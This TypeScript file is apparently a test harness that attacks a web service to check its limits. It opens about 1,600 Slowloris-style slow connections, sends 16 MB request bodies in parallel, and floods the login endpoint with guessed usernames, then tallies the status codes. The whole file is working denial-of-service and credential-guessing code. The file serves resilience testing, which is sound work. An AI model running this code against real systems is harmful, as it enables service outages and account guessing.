/** A hostile client, run as a separate process: `node attacker.ts <url> <seconds>`. */
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

const SLOW_CONNECTIONS = 1500;
const SLOW_BODIES = 100;
const HUGE_BYTES = 16 * 1024 * 1024;
const CONCURRENT_HUGE = 6;
const CONCURRENT_GUESSES = 8;
const BYTE_INTERVAL_MS = 3000;

export interface AttackResult {
  /** Number of responses per attack and status; 0 means the connection was cut. */
  statusCounts: Record<string, Record<string, number>>;
  slowConnections: number;
}

const url = new URL(process.argv[2] ?? '');
const endsAt = Date.now() + Number(process.argv[3]) * 1000;
const isOver = () => Date.now() > endsAt;
const result: AttackResult = { statusCounts: {}, slowConnections: 0 };

function count(attack: string, status: number) {
  const counts = result.statusCounts[attack] ?? {};
  counts[status] = (counts[status] ?? 0) + 1;
  result.statusCounts[attack] = counts;
}

/** Keeps one connection busy with a request that sends a byte every few seconds; reconnects when it is cut. */
async function sendSlowly(head: string) {
  while (!isOver()) {
    const socket: Socket = connect(Number(url.port), url.hostname);
    result.slowConnections += 1;
    socket.on('error', () => undefined).resume();
    socket.write(head);
    while (!isOver() && !socket.closed) {
      await wait(Math.min(BYTE_INTERVAL_MS, Math.max(1, endsAt - Date.now())));
      if (socket.writable) socket.write('x');
    }
    socket.destroy();
  }
}

async function sendRepeatedly(attack: string, path: string, bodyOf: () => string) {
  while (!isOver()) {
    const status = await fetch(new URL(path, url), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: bodyOf(),
      signal: AbortSignal.timeout(20_000),
    }).then(
      async (response) => {
        await response.body?.cancel();
        return response.status;
      },
      () => 0,
    );
    count(attack, status);
    if (status === 429 || status === 503) await wait(10);
  }
}

const huge = 'A'.repeat(HUGE_BYTES);
const hugePhoto = JSON.stringify({ base64_str: huge });
let guess = 0;
const startMany = (times: number, work: () => Promise<void>) => Array.from({ length: times }, work);
await Promise.all([
  ...startMany(SLOW_CONNECTIONS, () => sendSlowly(`GET / HTTP/1.1\r\nHost: ${url.host}\r\nX-Slow: `)),
  ...startMany(SLOW_BODIES, () =>
    sendSlowly(
      `POST /api/orders HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`,
    ),
  ),
  ...startMany(CONCURRENT_HUGE, () => sendRepeatedly('huge photo', '/analyze_and_recommend', () => hugePhoto)),
  ...startMany(CONCURRENT_HUGE, () => sendRepeatedly('huge order', '/api/orders', () => huge)),
  ...startMany(CONCURRENT_GUESSES, () =>
    sendRepeatedly('password', '/api/auth/login', () =>
      JSON.stringify({ username: `name.${guess++}`, password: 'a guess' }),
    ),
  ),
]);
process.stdout.write(JSON.stringify(result), () => process.exit(0));
